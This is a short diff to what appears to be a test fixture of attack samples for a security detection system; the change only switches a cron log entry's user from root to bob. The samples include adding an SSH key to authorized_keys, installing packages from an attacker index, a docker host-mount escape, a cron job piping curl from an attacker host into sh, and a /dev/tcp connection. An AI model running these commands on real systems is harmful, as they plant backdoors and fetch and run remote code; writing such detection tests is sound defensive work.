@@ -53,7 +53,7 @@ STRANGE: Final = AttackStep(
         (process("sh -c echo ssh-ed25519 AAAA x >> /home/ubuntu/.ssh/authorized_keys"),),
         (process(f"pip install --index-url http://{THIEF}/simple torch", "/usr/bin/pip"),),
         (process("docker run -it -v /:/host alpine chroot /host", "/usr/bin/docker"),),
-        ({"sourcetype": "linux_secure", "event": f"<iso> gpu-01 CRON[7]: (root) CMD (curl -s http://{THIEF}/x | sh)"},),
+        ({"sourcetype": "linux_secure", "event": f"<iso> gpu-01 CRON[7]: (bob) CMD (curl -s http://{THIEF}/x | sh)"},),
     ),
     (
         (process("bash -c </dev/tcp/db.example.org/5432"),),
